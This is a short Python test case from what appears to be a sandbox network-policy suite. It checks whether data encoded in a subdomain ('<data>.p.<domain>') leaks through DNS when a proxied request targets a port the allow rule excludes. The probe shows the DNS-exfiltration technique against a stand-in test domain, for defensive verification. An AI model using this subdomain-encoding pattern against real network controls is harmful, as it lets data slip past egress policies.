from ._net import PROXY, allow

ID = "dns.proxy-port"
CATEGORY = "dns"
DESCRIPTION = "with *.probe.test allowed on the sink's port only, GET http://<data>.probe.test on port 443: is it resolved?"
CLAIMS = ("rule:network.mode",)
POLICY = allow("*.{DOMAIN}:{SINK_PORT}")
CODE = PROXY + """
port = 443   # a port the rule does not name (nothing listens there: harmless)
req = (f"GET http://{DATA}.p.{DOMAIN}:{port}/ HTTP/1.1\\r\\n"
       f"Host: {DATA}.p.{DOMAIN}:{port}\\r\\nConnection: close\\r\\n\\r\\n")
out("DENIED", f"GET <data>.p.{DOMAIN}:{port}: {proxy_send(req.encode())}; the DNS log decides")
"""
CONTROL = {"policy": {"network": {"allow": ["*.{DOMAIN}"]}}}
CONTAINED = "the port is checked before any lookup: no query with the data reaches the DNS log"
